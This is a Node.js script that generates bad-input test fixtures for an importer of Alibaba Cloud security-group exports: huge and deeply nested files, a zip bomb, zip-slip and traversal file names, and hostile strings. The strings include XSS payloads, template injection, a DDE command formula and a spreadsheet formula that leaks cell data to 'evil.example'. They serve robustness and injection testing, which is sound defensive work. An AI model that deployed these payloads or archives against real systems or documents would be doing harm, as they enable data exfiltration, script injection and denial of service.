// The bad-input fixtures that are made rather than written by hand (test/fixtures/bad/INDEX.json):
// - generated: too large to commit, or with names git cannot carry everywhere; tests write them
//   into a temporary folder:  node scripts/make-bad-fixtures.mjs [folder]  (default test-results/bad-fixtures)
// - committed: small binary and multi-file fixtures, rewritten in place with
//   node scripts/make-bad-fixtures.mjs --committed
// Every file is deterministic, so figures and messages are the same on every run.
/* global TextEncoder */
import { closeSync, existsSync, mkdirSync, openSync, renameSync, truncateSync, writeFileSync, writeSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { zipSync } from 'fflate';

const MiB = 1024 * 1024;

/** Appends text to a file in large pieces, so no generator holds a whole file as one string. */
function chunkedWriter(path) {
  const fd = openSync(path, 'w');
  let pending = [];
  let pendingLength = 0;
  const flush = () => {
    if (pending.length > 0) writeSync(fd, pending.join(''));
    pending = [];
    pendingLength = 0;
  };
  return {
    write(text) {
      pending.push(text);
      pendingLength += text.length;
      if (pendingLength > 4 * MiB) flush();
    },
    close() {
      flush();
      closeSync(fd);
    },
  };
}

function random(seed) {
  let state = seed >>> 0;
  return () => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return state / 2 ** 32;
  };
}

const privateSources = ['10.0.0.0/8', '172.16.0.0/12', '192.168.0.0/16', '100.64.0.0/10'];
const riskyPorts = ['22/22', '3389/3389', '6379/6379', '3306/3306'];

/**
 * One DescribeSecurityGroupAttribute response with one rule, compact and with only the fields
 * the audit reads, so that 300,000 of them in one array make an 80 MB file. One group in a
 * hundred opens a risky port to the internet, so the audit has findings to show.
 */
function attributeResponse(index, next) {
  const serial = String(index).padStart(6, '0');
  const risky = index % 100 === 7;
  return {
    ...(index % 10 === 0 ? { Description: `业务组 ${index}` } : {}),
    Permissions: {
      Permission: [
        {
          Direction: 'ingress',
          IpProtocol: 'TCP',
          Policy: 'Accept',
          PortRange: risky ? riskyPorts[index % riskyPorts.length] : '443/443',
          Priority: 1 + Math.floor(next() * 100),
          SecurityGroupRuleId: `sgr-b${serial}`,
          SourceCidrIp: risky ? '0.0.0.0/0' : privateSources[index % privateSources.length],
        },
      ],
    },
    RegionId: 'cn-shanghai',
    SecurityGroupId: `sg-b${serial}`,
    SecurityGroupName: `big-${index}`,
  };
}

/** `[response, response, …]`: one file holding the attributes of `groups` security groups. */
export function writeLargeExport(path, groups = 300_000) {
  const next = random(groups);
  const out = chunkedWriter(path);
  out.write('[\n');
  for (let index = 0; index < groups; index += 1) {
    out.write(`${index === 0 ? '' : ',\n'}${JSON.stringify(attributeResponse(index, next))}`);
  }
  out.write('\n]\n');
  out.close();
  return path;
}

/** `[[[…]]]` nested `depth` deep: JSON.parse copes, a recursive walker or structuredClone does not. */
export function writeDeepNesting(path, depth = 100_000) {
  writeFileSync(path, `${'['.repeat(depth)}${']'.repeat(depth)}`);
  return path;
}

/** A security group whose one rule object carries a million extra keys. */
export function writeMillionKeys(path, keys = 1_000_000) {
  const out = chunkedWriter(path);
  out.write('{"SecurityGroupId":"sg-wide","InnerAccessPolicy":"Accept","Permissions":{"Permission":[{');
  for (let index = 0; index < keys; index += 1) out.write(`"Extra${index}":${index},`);
  out.write('"Direction":"ingress","IpProtocol":"TCP","PortRange":"22/22","SourceCidrIp":"0.0.0.0/0","Policy":"Accept","Priority":1,"SecurityGroupRuleId":"sgr-wide"}]}}');
  out.close();
  return path;
}

/** A rule description of ten million characters, about 12 MB (Alibaba Cloud caps descriptions at 512). */
export function writeLongDescription(path, length = 10 * MiB) {
  const piece = '说明 description ';
  const description = piece.repeat(Math.ceil(length / piece.length)).slice(0, length);
  writeFileSync(
    path,
    JSON.stringify({
      SecurityGroupId: 'sg-long',
      InnerAccessPolicy: 'Accept',
      Permissions: {
        Permission: [
          { Direction: 'ingress', IpProtocol: 'TCP', PortRange: '22/22', SourceCidrIp: '0.0.0.0/0', Policy: 'Accept', Priority: 1, SecurityGroupRuleId: 'sgr-long', Description: description },
        ],
      },
    }),
  );
  return path;
}

/**
 * One byte over the 256 MiB limit. Sparse: it costs no disk, and the importer refuses it by
 * its size before looking at a single byte.
 */
export function writeOverSizeLimit(path, bytes = 256 * MiB + 1) {
  writeFileSync(path, '');
  truncateSync(path, bytes);
  return path;
}

// Fixed so that the committed archives are the same bytes on every run.
const zipOptions = { level: 9, mtime: new Date('2025-06-01T00:00:00Z') };
const utf8 = (text) => new TextEncoder().encode(text);
const tabbed = (value) => `${JSON.stringify(value, null, '\t')}\n`;

/** A small, valid DescribeSecurityGroupAttribute response. */
function smallAttribute(groupId, ruleId) {
  return {
    Description: '',
    InnerAccessPolicy: 'Accept',
    Permissions: {
      Permission: [
        { Direction: 'ingress', IpProtocol: 'TCP', Policy: 'Accept', PortRange: '443/443', Priority: 1, SecurityGroupRuleId: ruleId, SourceCidrIp: '10.0.0.0/8' },
      ],
    },
    RegionId: 'cn-hangzhou',
    RequestId: `R-${groupId}`,
    SecurityGroupId: groupId,
    SecurityGroupName: groupId,
    VpcId: 'vpc-1',
  };
}

function instancesResponse(instances) {
  return {
    Instances: {
      Instance: instances.map(({ id, name, groupId }) => ({ InstanceId: id, InstanceName: name, RegionId: 'cn-hangzhou', SecurityGroupIds: { SecurityGroupId: [groupId] } })),
    },
    PageNumber: 1,
    PageSize: 10,
    RequestId: 'R-I',
    TotalCount: instances.length,
  };
}

/** A zip whose one entry inflates 1,000 times: ten million zero bytes in 10 KB. */
export function writeZipBomb(path) {
  writeFileSync(path, zipSync({ 'export.json': new Uint8Array(10 * MiB) }, zipOptions));
  return path;
}

/** A real export zipped, then named .json: it is read by its content, as a zip. */
export function writeZipRenamed(path) {
  writeFileSync(path, zipSync({ 'sg-zipped.json': utf8(tabbed(smallAttribute('sg-zipped', 'sgr-zipped'))) }, zipOptions));
  return path;
}

/** A zip inside a zip: the outer one is unpacked, the inner one is refused, not unpacked. */
export function writeNestedArchive(path) {
  const inner = zipSync({ 'inner.json': utf8(tabbed(smallAttribute('sg-inner', 'sgr-inner'))) }, zipOptions);
  writeFileSync(path, zipSync({ 'inner.zip': inner, 'outer.json': utf8(tabbed(smallAttribute('sg-outer', 'sgr-outer'))) }, zipOptions));
  return path;
}

/** Entry names that would climb out of a folder if the archive were ever extracted to disk. */
export function writeZipSlip(path) {
  writeFileSync(path, zipSync({ '../../evil.json': utf8(tabbed(smallAttribute('sg-slip', 'sgr-slip'))) }, zipOptions));
  return path;
}

/** The same bytes under two names. */
export function writeSameFileTwice(folder) {
  const text = tabbed(smallAttribute('sg-twice', 'sgr-twice'));
  mkdirSync(join(folder, 'copy'), { recursive: true });
  writeFileSync(join(folder, 'a.json'), text);
  writeFileSync(join(folder, 'copy', 'a.json'), text);
  return folder;
}

/** Two files that describe the same instance differently. */
export function writeClashingIds(folder) {
  mkdirSync(folder, { recursive: true });
  writeFileSync(join(folder, 'a.json'), tabbed(instancesResponse([{ id: 'i-clash', name: 'from-a', groupId: 'sg-clash' }])));
  writeFileSync(join(folder, 'b.json'), tabbed(instancesResponse([{ id: 'i-clash', name: 'from-b', groupId: 'sg-clash' }])));
  return folder;
}

/**
 * Strings that try markup, script, template and formula injection, bidi and invisible tricks,
 * and odd code points, in group names and descriptions, rule descriptions and instance names.
 * Each must come out exactly as it went in (test/fixtures/bad/INDEX.json, hostile-strings.json).
 */
export const hostileGroups = [
  ['<img src=x onerror=alert(1)>', '</script><script>alert(1)</script>'],
  ['javascript:alert(document.domain)', "{{constructor.constructor('alert(1)')()}} @:x {0} %s"],
  ['\u202Egnp.exe', 'zero\u200Bwidth'],
  ['nul\u0000byte', 'lone \ud800 and \udfff surrogates'],
  ['安全组 🔥🛡️ مجموعة الأمان', 'W'.repeat(100_000)],
];
export const hostileRuleDescriptions = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\tTAB',
  '\rCR',
  '\nLF',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
];
export const hostileInstanceNames = ['evil\u202Eexe.txt', '<svg onload=alert(1)>'];

/** One file, an array of three responses, holding every hostile string above. */
export function writeHostileStrings(path) {
  const groupId = (index) => `sg-hostile000${index + 1}`;
  const groups = {
    RequestId: 'R-HOSTILE-LIST',
    SecurityGroups: {
      SecurityGroup: hostileGroups.map(([name, description], index) => ({ Description: description, SecurityGroupId: groupId(index), SecurityGroupName: name, SecurityGroupType: 'normal', VpcId: 'vpc-1' })),
    },
    PageNumber: 1,
    PageSize: 10,
    TotalCount: hostileGroups.length,
  };
  // The 100,000-character word only once (in the listing), to keep the file small.
  const rules = hostileGroups.map(([name, description], index) => ({
    ...smallAttribute(groupId(index), `sgr-hostile000${index + 1}`),
    Description: description.length > 1000 ? '' : description,
    SecurityGroupName: name,
  }));
  rules[0].Permissions.Permission = hostileRuleDescriptions.map((description, index) => ({
    Description: description,
    Direction: 'ingress',
    IpProtocol: 'TCP',
    Policy: 'Accept',
    PortRange: '22/22',
    Priority: 1,
    SecurityGroupRuleId: `sgr-hostile-csv${String(index).padStart(2, '0')}`,
    SourceCidrIp: '0.0.0.0/0',
  }));
  const instances = instancesResponse(hostileInstanceNames.map((name, index) => ({ id: `i-hostile0${index + 1}`, name, groupId: groupId(0) })));
  writeFileSync(path, tabbed([groups, ...rules, instances]));
  return path;
}

/** Small fixtures kept in test/fixtures/bad, by name. */
export const committedFixtures = {
  'zip-bomb.zip': writeZipBomb,
  'zip-renamed.json': writeZipRenamed,
  'nested-archive.zip': writeNestedArchive,
  'zip-slip.zip': writeZipSlip,
  'same-file-twice': writeSameFileTwice,
  'clashing-ids': writeClashingIds,
  'hostile-strings.json': writeHostileStrings,
};

/** A valid export saved as `..\..\x.json`: a name to show, never a path to follow. */
export function writeBackslashTraversalName(folder) {
  mkdirSync(folder, { recursive: true });
  writeFileSync(join(folder, '..\\..\\x.json'), tabbed(smallAttribute('sg-backslash', 'sgr-backslash')));
  return folder;
}

/** A truncated file whose name holds a line break: its one-line error must stay one line. */
export function writeNewlineName(folder) {
  mkdirSync(folder, { recursive: true });
  writeFileSync(join(folder, 'bad\nname.json'), '{"SecurityGroupId": "sg-cut",');
  return folder;
}

/** A truncated file 300 characters down its folder (one name may not pass 255 bytes on disk). */
export function writeLongName(folder) {
  const segment = (digit) => `d${String(digit).repeat(95)}`;
  const path = join(folder, segment(1), segment(2), segment(3));
  mkdirSync(path, { recursive: true });
  writeFileSync(join(path, 'name.json'), '{"SecurityGroupId": "sg-cut",');
  return folder;
}

/** The generated fixtures by name, as INDEX.json lists them. */
export const generatedFixtures = {
  'large-300k-groups.json': writeLargeExport,
  'nesting-100000-deep.json': writeDeepNesting,
  'million-keys.json': writeMillionKeys,
  'description-10mb.json': writeLongDescription,
  'over-size-limit.json': writeOverSizeLimit,
  'name-backslash-traversal': writeBackslashTraversalName,
  'name-with-newline': writeNewlineName,
  'name-300-characters': writeLongName,
};

/** Writes the named fixtures (all by default) into `folder` unless already there; returns their paths. */
export function makeBadFixtures(folder, names = Object.keys(generatedFixtures)) {
  mkdirSync(folder, { recursive: true });
  const paths = {};
  for (const name of names) {
    const write = generatedFixtures[name];
    if (write === undefined) throw new Error(`no generator for ${name}`);
    const path = join(folder, name);
    // Written under another name first: a run cut short never leaves half a fixture behind.
    if (!existsSync(path)) renameSync(write(`${path}.partial`), path);
    paths[name] = path;
  }
  return paths;
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) {
  if (process.argv[2] === '--committed') {
    for (const [name, write] of Object.entries(committedFixtures)) console.log(write(join('test/fixtures/bad', name)));
  } else {
    const folder = process.argv[2] ?? 'test-results/bad-fixtures';
    for (const path of Object.values(makeBadFixtures(folder))) console.log(path);
  }
}
